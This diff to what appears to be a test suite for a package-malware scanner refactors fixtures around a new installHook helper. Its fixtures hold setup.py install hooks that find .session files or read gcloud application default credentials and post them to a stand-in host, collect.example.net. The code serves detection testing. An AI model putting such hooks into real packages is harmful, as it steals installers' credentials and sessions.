@@ -61,6 +61,9 @@ async function gem(files: Record<string, string>, spec: GemspecOptions): Promise
 
 const postinstall = (command: string) => ({ scripts: { postinstall: command } })
 const setupPy = (body = '') => `from setuptools import setup\n${body}setup(name='synthetic-pkg', version='1.0.0')\n`
+/** A setup.py whose `install` command runs `body` after installing; the body's first line is line 8. */
+const installHook = (imports: string, body: string) =>
+  `import ${imports}\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\nclass Hook(install):\n    def run(self):\n        install.run(self)\n${body.replace(/^/gm, '        ')}\n\nsetup(name='synthetic-pkg', version='1.0.0', cmdclass={'install': Hook})\n`
 
 /** Rules that contributed to the score. */
 const weighted = (r: ScanReport) => r.signals.filter((s) => s.weight > 0).map((s) => s.rule).sort()
@@ -352,24 +355,17 @@ requests.post('https://collect.example.net/c', json=found)
     name: 'an install hook searches folders for session files and uploads the one it finds',
     scan: () =>
       sdist({
-        'setup.py': `import os, requests
-from setuptools import setup
-from setuptools.command.install import install
-
-class Hook(install):
-    def run(self):
-        install.run(self)
-        found = None
-        for folder in ['/data', os.path.expanduser('~/bots')]:
-            for name in os.listdir(folder):
-                if name.endswith('.session'):
-                    found = os.path.join(folder, name)
-        if found:
-            with open(found, 'rb') as f:
-                requests.post('https://collect.example.net/up', files={'s': f})
-
-setup(name='synthetic-pkg', version='1.0.0', cmdclass={'install': Hook})
-`,
+        'setup.py': installHook(
+          'os, requests',
+          `found = None
+for folder in ['/data', os.path.expanduser('~/bots')]:
+    for name in os.listdir(folder):
+        if name.endswith('.session'):
+            found = os.path.join(folder, name)
+if found:
+    with open(found, 'rb') as f:
+        requests.post('https://collect.example.net/up', files={'s': f})`,
+        ),
       }),
     file: 'setup.py',
     line: 15,
@@ -381,18 +377,11 @@ setup(name='synthetic-pkg', version='1.0.0', cmdclass={'install': Hook})
     name: "an install hook posts gcloud's application default credentials",
     scan: () =>
       sdist({
-        'setup.py': `import os, requests
-from setuptools import setup
-from setuptools.command.install import install
-
-class Hook(install):
-    def run(self):
-        install.run(self)
-        path = os.path.expanduser('~/.config/gcloud/application_default_credentials.json')
-        requests.post('https://collect.example.net/g', data=open(path).read())
-
-setup(name='synthetic-pkg', version='1.0.0', cmdclass={'install': Hook})
-`,
+        'setup.py': installHook(
+          'os, requests',
+          `path = os.path.expanduser('~/.config/gcloud/application_default_credentials.json')
+requests.post('https://collect.example.net/g', data=open(path).read())`,
+        ),
       }),
     file: 'setup.py',
     line: 9,
